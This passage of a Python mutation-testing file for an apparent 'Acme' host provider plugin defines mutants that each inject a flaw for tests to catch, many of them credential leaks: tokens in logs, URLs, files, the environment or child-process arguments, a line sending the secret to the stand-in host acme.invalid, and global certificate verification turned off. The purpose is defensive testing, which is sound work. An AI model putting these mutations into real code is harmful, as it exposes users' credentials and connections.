            "            except ProviderUnavailable:\n"
            "                time.sleep(0.1)\n"
            '        user = parse_answer(UserAnswer, found, what="the user")\n',
        ),
        ("test_a_slow_host_is_unavailable",),
    ),
    Mutant(
        "waits for an answer as long as it takes",
        in_provider(*OWN_CLIENT_IMPORTS, PAGES, OWN_CLIENT.replace(", timeout=30", "")),
        ("test_a_slow_host_is_unavailable",),
    ),
    Mutant(
        "lets the errors of its models out",
        in_provider(
            'user = parse_answer(UserAnswer, self._http.get_json("user"), what="the user")',
            'user = UserAnswer.model_validate(self._http.get_json("user"))',
        ),
        (
            "test_json_of_another_shape_is_unexpected",
            "test_no_field_of_an_answer_is_trusted",
            "test_what_goes_wrong_is_a_typed_error",
        ),
    ),
    Mutant(
        "reads answers without models",
        in_provider(
            USER + ACCOUNT,
            '        user = self._http.get_json("user")\n'
            '        return Account(username=user["login"], display_name=user["name"])\n',
        ),
        (
            "test_json_of_another_shape_is_unexpected",
            "test_no_field_of_an_answer_is_trusted",
        ),
    ),
    Mutant(
        "skips items that it can't read",
        in_provider(
            ERRORS,
            f"{ERRORS}from deploycore.errors import UnexpectedAnswer\n",
            REPOSITORY_ANSWERS + REPOSITORIES,
            "            for item in page:\n"
            "                try:\n"
            '                    answer = parse_answer(RepositoryAnswer, item, what="one")\n'
            "                except UnexpectedAnswer:\n"
            "                    continue\n"
            "                yield answer.repository()\n",
        ),
        ("test_json_of_another_shape_is_unexpected", "test_what_goes_wrong_is_a_typed_error"),
    ),
    Mutant(
        "refuses fields that the host adds",
        in_answers(
            "class BranchAnswer(AnswerModel):\n",
            'class BranchAnswer(AnswerModel, extra="forbid"):\n',
        ),
        ("test_fields_that_a_host_adds_are_passed_over",),
    ),
    Mutant(
        "asks no more once the host was down",
        in_provider(
            INIT,
            f"{INIT}        self._down = False\n",
            ERRORS,
            f"{ERRORS}from deploycore.errors import ProviderUnavailable\n",
            USER,
            "        if self._down:\n"
            '            raise ProviderUnavailable("Acme is down.", hint="Try again later.")\n'
            "        try:\n"
            f"    {USER}"
            "        except ProviderUnavailable:\n"
            "            self._down = True\n"
            "            raise\n",
        ),
        ("test_an_error_in_one_call_leaves_the_next_alone",),
    ),
)

SECRECY = (
    Mutant(
        "sends the token in the query too",
        in_provider(
            PAGES,
            '        params["access_token"] = self._config.token.get_secret_value()\n' + PAGES,
        ),
        ("test_secrets_are_not_sent_in_addresses",),
    ),
    Mutant(
        "logs the headers that it sends",
        in_provider(
            IMPORTS,
            f"import logging\n{IMPORTS}",
            USER,
            '        headers = {"X-Token": self._config.token.get_secret_value()}\n'
            '        logging.getLogger(__name__).debug("asking with %s", headers)\n'
            f"{USER}",
        ),
        ("test_logs_show_no_secret",),
    ),
    Mutant(
        "logs exceptions with what the host said",
        in_provider(
            IMPORTS,
            f"import logging\n{IMPORTS}",
            USER,
            '        found = self._http.get_json("user")\n'
            "        try:\n"
            '            user = parse_answer(UserAnswer, found, what="the user")\n'
            '            assert user.login, f"no login in {found}"\n'
            "        except Exception:\n"
            "            try:\n"
            '                raise ValueError(f"no user: {found}")\n'
            "            except ValueError:\n"
            '                logging.getLogger(__name__).exception("not understood")\n'
            "            raise\n",
        ),
        ("test_logs_show_no_secret",),
    ),
    Mutant(
        "logs fields for machines with the token",
        in_provider(
            IMPORTS,
            f"import logging\n{IMPORTS}",
            USER,
            '        extra = {"token": self._config.token.get_secret_value()}\n'
            '        logging.getLogger(__name__).info("signing in", extra=extra)\n'
            f"{USER}",
        ),
        ("test_logs_show_no_secret",),
    ),
    Mutant(
        "prints while it is looked for a fault",
        in_provider(USER, f"        print(self._config.token.get_secret_value())\n{USER}"),
        ("test_logs_show_no_secret",),
    ),
    Mutant(
        "puts the whole refusal into the details of its error",
        in_provider(
            "        status=answer.status,\n",
            "        status=answer.status,\n        answer=str(answer.json),\n",
        ),
        ("test_errors_show_no_secret",),
    ),
    Mutant(
        "shows the token in its repr",
        in_provider(
            "    # EDIT 8",
            "    def __repr__(self) -> str:\n"
            '        return f"<AcmeProvider {self._config.token.get_secret_value()}>"\n\n'
            "    # EDIT 8",
        ),
        ("test_configurations_and_results_show_no_secret",),
    ),
    Mutant(
        "lists clone links with the token",
        in_provider(
            REPOSITORIES,
            "            for answer in answers:\n"
            "                row = answer.repository()\n"
            "                secret = self._config.token.get_secret_value()\n"
            '                href = answer.clone_url.replace("://", f"://token:{secret}@")\n'
            '                link = row.clone_links[0].model_copy(update={"href": href})\n'
            '                yield row.model_copy(update={"clone_links": (link,)})\n',
        ),
        (
            "test_configurations_and_results_show_no_secret",
            "test_clone_links_hold_no_user_information",
        ),
    ),
)

CLONING = (
    Mutant(
        "signs in to git as to the API",
        in_provider("username=GIT_USERNAME", "username=self._config.owner"),
        (
            "test_the_core_clones_with_it",
            "test_a_stock_git_client_accepts_it",
            "test_a_public_repository_can_be_cloned_too",
        ),
    ),
    Mutant(
        "gives git the whole header for a password",
        in_provider(
            IMPORTS,
            f"{IMPORTS}from pydantic import SecretStr\n",
            CREDENTIAL,
            '        secret = SecretStr(f"Bearer {self._config.token.get_secret_value()}")\n'
            "        credential = GitCredential(username=GIT_USERNAME, password=secret)\n",
        ),
        ("test_the_core_clones_with_it", "test_a_stock_git_client_accepts_it"),
    ),
    Mutant(
        "forgets the credential for git",
        in_provider("credential=credential", "credential=None"),
        (
            "test_the_address_is_clean_and_the_credential_apart",
            "test_the_core_clones_with_it",
        ),
    ),
    Mutant(
        "joins the credential to the address",
        in_provider(
            CLONE_URL,
            "        secret = self._config.token.get_secret_value()\n"
            '        host = self._config.url.replace("://", f"://token:{secret}@")\n'
            '        address = f"{host}/{repository.path}.git"\n'
            "        return CloneUrl(url=address, credential=credential)\n",
        ),
        ("test_the_address_is_clean_and_the_credential_apart",),
    ),
    Mutant(
        "gives every repository the same address for SSH",
        in_provider(
            CLONE_URL,
            CLONE_URL + "\n"
            "    @hookimpl\n"
            "    def ssh_clone_url(self, repository: RepositoryId):\n"
            "        from deploycore.models import SshAddress\n\n"
            '        return SshAddress(url="ssh://git@acme.example/home/code.git")\n',
        ),
        ("test_the_address_for_ssh_names_the_repository",),
    ),
    Mutant(
        "publishes fingerprints in place of host keys",
        in_provider(
            CLONE_URL,
            CLONE_URL + "\n"
            "    @hookimpl\n"
            "    def ssh_clone_url(self, repository: RepositoryId):\n"
            "        from deploycore.models import SshAddress\n\n"
            '        address = f"ssh://git@acme.example/{repository.path}.git"\n'
            '        return SshAddress(url=address, host_keys=("SHA256:5f0c",))\n',
        ),
        ("test_the_address_for_ssh_names_the_repository",),
    ),
    Mutant(
        "clones from the host that everybody uses",
        in_provider(
            CLONE_ADDRESS, CLONE_ADDRESS.replace("{self._config.url}", "https://acme.example")
        ),
        ("test_the_address_is_clean_and_the_credential_apart",),
    ),
    Mutant(
        "clones from the API's address",
        in_provider(CLONE_ADDRESS, CLONE_ADDRESS.replace("url", "api_base_url", 1)),
        ("test_the_core_clones_with_it", "test_a_stock_git_client_accepts_it"),
    ),
    Mutant(
        "asks the host where to clone from",
        in_provider(
            CREDENTIAL,
            "        query = RepositoryQuery(owner=repository.owner)\n"
            "        found = [row for row in self.list_repos(query) if row.id == repository]\n"
            f"{CREDENTIAL}",
        ),
        ("test_the_address_is_clean_and_the_credential_apart",),
    ),
    Mutant(
        "sends the credential wherever the host says",
        in_contract(
            "    required_scope = READ_SCOPE\n",
            "    required_scope = READ_SCOPE\n    clone_requests = 1\n",
        )
        + in_provider(
            CLONE_URL,
            "        query = RepositoryQuery(owner=repository.owner)\n"
            "        for row in self.list_repos(query):\n"
            "            if row.id == repository:\n"
            "                return CloneUrl(url=row.clone_links[0].href, credential=credential)\n"
            '        raise DeploycoreError("There is no such repository.")\n',
        ),
        ("test_the_credential_goes_to_the_configured_host_alone",),
    ),
    Mutant(
        "drops what it does not know from clone addresses",
        in_provider(
            IMPORTS,
            f"import re\n{IMPORTS}",
            CLONE_ADDRESS,
            CLONE_ADDRESS.replace(
                "repository.path", "re.sub('[^A-Za-z0-9._/-]', '', str(repository))"
            ),
        ),
        ("test_names_are_quoted_once_in_the_address",),
    ),
    Mutant(
        "has a sandbox whose git server lets everybody in",
        in_sandbox(
            "    # EDIT 11",
            "    def permit_git(self, request: Request, name: str, service: str) -> Repository:\n"
            '        return self.repository(*name.split("/"))\n\n'
            "    # EDIT 11",
        ),
        ("test_wrong_credentials_clone_nothing",),
    ),
    Mutant(
        "fails over a refusal of git that has no status",
        explaining_git('return {401: "Look at the token."}[status]'),
        ("test_explanations_of_refusals_are_texts_without_secrets",),
    ),
    Mutant(
        "explains a refusal of git by saying it again",
        explaining_git('return f"Acme said: {message}"'),
        ("test_explanations_of_refusals_are_texts_without_secrets",),
    ),
    Mutant(
        "explains a refusal of git with the token",
        explaining_git('return f"Is {self._config.token.get_secret_value()} still right?"'),
        ("test_explanations_of_refusals_are_texts_without_secrets",),
    ),
    Mutant(
        "explains a refusal of git with an empty text",
        explaining_git('return ""'),
        ("test_explanations_of_refusals_are_texts_without_secrets",),
    ),
)

LATER_REQUESTS = (
    Mutant(
        "takes a refusal of a later page for the end",
        in_provider(
            PAGES,
            "        pages = self._http.linked_pages(path, params=params)\n"
            "        yield next(pages)\n"
            "        try:\n"
            "            yield from pages\n"
            "        except PermissionDenied:\n"
            "            return\n",
        ),
        ("test_what_goes_wrong_at_a_later_request_is_a_typed_error",),
    ),
    Mutant(
        "asks a second time without a model",
        in_provider(USER, USER + '        self._http.get_json("user")["login"]\n'),
        ("test_no_field_of_a_later_answer_is_trusted",),
    ),
)

SIGNING_IN = (
    in_sandbox(
        "    # EDIT 11",
        "    def _token(self, request: Request) -> Answer:\n"
        "        caller = self.caller(request)\n"
        "        secret = self.new_secret('token')\n"
        "        self.given = {**getattr(self, 'given', {}), secret.get_secret_value(): caller}\n"
        "        body = {'token': secret.get_secret_value(), 'expires_in': 3600}\n"
        "        return json_answer(body, 201)\n\n"
        "    def credential_of(self, secret: str) -> Credential | None:\n"
        "        return getattr(self, 'given', {}).get(secret) or super().credential_of(secret)\n\n"
        "    # EDIT 11",
        '            "GET /api/v1/user": self._user,\n',
        '            "GET /api/v1/user": self._user,\n'
        '            "POST /api/v1/tokens": self._token,\n',
    )
    + in_contract(
        "    required_scope = READ_SCOPE\n",
        '    required_scope = READ_SCOPE\n    sign_in_path = "*/tokens"\n',
    )
    + in_answers(
        "class UserAnswer(",
        "class TokenAnswer(AnswerModel):\n"
        "    token: str\n    expires_in: int\n\n\nclass UserAnswer(",
    )
)
"""Of the template, without its provider: a host where a token is asked for first."""

SESSION = """class Session:
    def __init__(self, http: HttpClient) -> None:
        self._http = http
        self._lock = threading.Lock()
        self._held = None

    def header(self) -> tuple[str, SecretStr]:
        with self._lock:
            if self._held is None or time.monotonic() >= self._ends - 60:
                try:
                    self.renew()
                except ProviderUnavailable:
                    if self._held is None or time.monotonic() >= self._ends:
                        raise
            return "Authorization", SecretStr(f"Bearer {self._held}")

    def renew(self) -> None:
        answer = self._http.send_json("POST", "tokens")
        given = parse_answer(TokenAnswer, answer, what="a token")
        self._held = given.token
        self._ends = time.monotonic() + given.expires_in

    def explain(self, answer: ErrorAnswer) -> DeploycoreError | None:
        if answer.status == 401:
            self._held = None
        return explain(answer)


class AcmeProvider:
"""
CLASS = "class AcmeProvider:\n"


def signing_in(*texts: str) -> tuple[Replacement, ...]:
    """A provider that asks for a token first, with old and new texts in how it does that."""
    session = SESSION
    for old, new in zip(texts[::2], texts[1::2], strict=True):
        assert session.count(old) == 1, old
        session = session.replace(old, new)
    return SIGNING_IN + in_provider(
        IMPORTS,
        f"import threading\nimport time\n{IMPORTS}\nfrom pydantic import SecretStr\n"
        "from deploycore.errors import ProviderUnavailable\n",
        "import BranchAnswer, RepositoryAnswer, UserAnswer\n",
        "import BranchAnswer, RepositoryAnswer, TokenAnswer, UserAnswer\n",
        CLASS,
        session,
        INIT,
        "        session = Session(http.explaining(explain))\n"
        "        self._http = http.authorised_by(session).explaining(session.explain)\n",
    )


CURSORS = in_sandbox(
    "    # EDIT 11",
    '    PAGES = Pages(JsonCursor(), number="cursor")\n\n    # EDIT 11',
    "from deploycore.testing.sandbox import",
    "from deploycore.testing.paging import JsonCursor, Pages\n"
    "from deploycore.testing.sandbox import",
) + in_provider(
    IMPORTS,
    "from urllib.parse import quote, urlencode\n",
    PAGES,
    "        def following(page: dict[str, str]) -> str | None:\n"
    '            cursor = page.get("next_cursor")\n'
    '            asked = urlencode({**params, "cursor": cursor})\n'
    '            return f"{path}?{asked}" if cursor else None\n\n'
    "        for page in self._http.pages(path, params=params, next_url=following):\n"
    '            yield page["values"]\n',
)
"""No mistake: a host that gives cursors in the place of links."""

TOKENS = (
    Mutant(
        "takes any failure to sign in for wrong credentials",
        signing_in(
            '        answer = self._http.send_json("POST", "tokens")\n',
            "        try:\n"
            '            answer = self._http.send_json("POST", "tokens")\n'
            "        except DeploycoreError:\n"
            "            from deploycore.errors import AuthenticationFailed\n\n"
            '            raise AuthenticationFailed("no token", hint="Look.") from None\n',
        ),
        ("test_a_sign_in_that_fails_is_a_typed_error",),
    ),
    Mutant(
        "never renews a token that is refused",
        signing_in(
            "            self._held = None\n        return explain",
            "            pass\n        return explain",
        ),
        ("test_a_token_that_is_refused_is_renewed_once",),
    ),
    Mutant(
        "renews a token only once it is refused",
        signing_in(" or time.monotonic() >= self._ends - 60", ""),
        ("test_a_token_that_has_expired_is_renewed_before_it_is_used",),
    ),
    Mutant(
        "quotes the answer to a request for a token",
        signing_in(
            '        given = parse_answer(TokenAnswer, answer, what="a token")\n',
            '        if not isinstance(answer.get("expires_in"), int):\n'
            '            raise DeploycoreError(f"There is no time in {answer}.")\n'
            '        given = parse_answer(TokenAnswer, answer, what="a token")\n',
        ),
        ("test_a_token_is_not_quoted_in_an_error",),
    ),
    Mutant(
        "lets each thread renew the token by itself",
        signing_in("        with self._lock:\n", "        if True:\n"),
        ("test_threads_share_one_token",),
    ),
    Mutant(
        "drops a token before it has the next one",
        signing_in(
            "                try:\n                    self.renew()\n",
            "                try:\n                    self._held = None\n"
            "                    self.renew()\n",
        ),
        ("test_a_token_is_used_while_it_cannot_be_renewed",),
    ),
)


def doing(*lines: str, imports: str = "") -> tuple[Replacement, ...]:
    """A provider that does something besides when it signs in."""
    done = "".join(f"        {line}\n" for line in lines)
    secret = "        secret = self._config.token.get_secret_value()\n"
    return in_provider(IMPORTS, f"{imports}{IMPORTS}", USER, f"{secret}{done}{USER}")


SIDE_EFFECTS = (
    Mutant(
        "sets up logging when it is imported",
        in_provider(IMPORTS, f"import logging\n{IMPORTS}\nlogging.basicConfig(level='INFO')\n"),
        ("test_importing_it_changes_nothing",),
    ),
    Mutant(
        "greets when it is imported",
        in_provider(IMPORTS, f"{IMPORTS}\nprint('Acme, at your service')\n"),
        ("test_importing_it_changes_nothing",),
    ),
    Mutant(
        "prints what it does",
        doing("print('signing in')"),
        ("test_nothing_is_printed",),
    ),
    Mutant(
        "prints past Python's standard output",
        doing("os.write(1, b'signing in')", imports="import os\n"),
        ("test_nothing_is_printed",),
    ),
    Mutant(
        "sets up logging",
        doing("logging.basicConfig(force=True)", imports="import logging\n"),
        ("test_the_process_is_left_as_it_was",),
    ),
    Mutant(
        "sets the time-out of all sockets",
        doing("socket.setdefaulttimeout(30)", imports="import socket\n"),
        ("test_the_process_is_left_as_it_was",),
    ),
    Mutant(
        "turns the verification of certificates off for all",
        doing(
            "ssl._create_default_https_context = ssl._create_unverified_context",
            imports="import ssl\n",
        ),
        ("test_the_process_is_left_as_it_was",),
    ),
    Mutant(
        "changes the environment",
        doing("os.environ['ACME_OWNER'] = self._config.owner", imports="import os\n"),
        ("test_the_process_is_left_as_it_was",),
    ),
    Mutant(
        "works in another directory for a moment",
        doing("here = os.getcwd()", "os.chdir('/')", "os.chdir(here)", imports="import os\n"),
        ("test_the_working_directory_is_left_alone",),
    ),
    Mutant(
        "leaves a thread behind",
        doing(
            "threading.Thread(target=threading.Event().wait, daemon=True).start()",
            imports="import threading\n",
        ),
        ("test_no_thread_outlives_the_provider",),
    ),
    Mutant(
        "keeps the token in a file",
        doing(
            "Path('acme-token').write_text(secret)",
            imports="from pathlib import Path\n",
        ),
        ("test_no_secret_is_written_into_a_file",),
    ),
    Mutant(
        "keeps the token in a file for a moment",
        doing(
            "with tempfile.NamedTemporaryFile('w') as file:",
            "    file.write(secret)",
            "    file.flush()",
            imports="import tempfile\n",
        ),
        ("test_no_secret_is_written_into_a_file",),
    ),
    Mutant(
        "puts the token into the environment for a moment",
        doing(
            "os.environ['ACME_TOKEN'] = secret",
            "del os.environ['ACME_TOKEN']",
            imports="import os\n",
        ),
        ("test_no_secret_is_put_into_the_environment",),
    ),
    Mutant(
        "gives the token to a program",
        doing("subprocess.run(['true', secret])", imports="import subprocess\n"),
        ("test_no_secret_is_an_argument_of_a_child_process",),
    ),
    Mutant(
        "tells its maker by another library",
        doing(
            "try:",
            "    urllib.request.urlopen(f'http://acme.invalid/?{secret}', timeout=5)",
            "except OSError:",
            "    pass",
            imports="import urllib.request\n",
        ),
        ("test_nothing_but_the_configured_host_is_connected_to",),
    ),
    Mutant(
        "verifies no certificates",
        in_provider(
            *OWN_CLIENT_IMPORTS,
            PAGES,
            '        if self._config.url.startswith("http:"):\n'
            "            yield from self._http.linked_pages(path, params=params)\n"
            "            return\n" + OWN_CLIENT.replace("timeout=30", "timeout=30, verify=False"),
        ),
        ("test_a_host_whose_certificate_is_not_trusted_is_sent_nothing",),
    ),
)

MUTANTS = (
    *CLASS_AND_CONFIGURATION,
    *AUTHENTICATION,
    *LISTING,
    *PAGINATION,
    *FAILURES,
    *LATER_REQUESTS,
    *SECRECY,
    *SIDE_EFFECTS,
    *CLONING,
    *TOKENS,
)
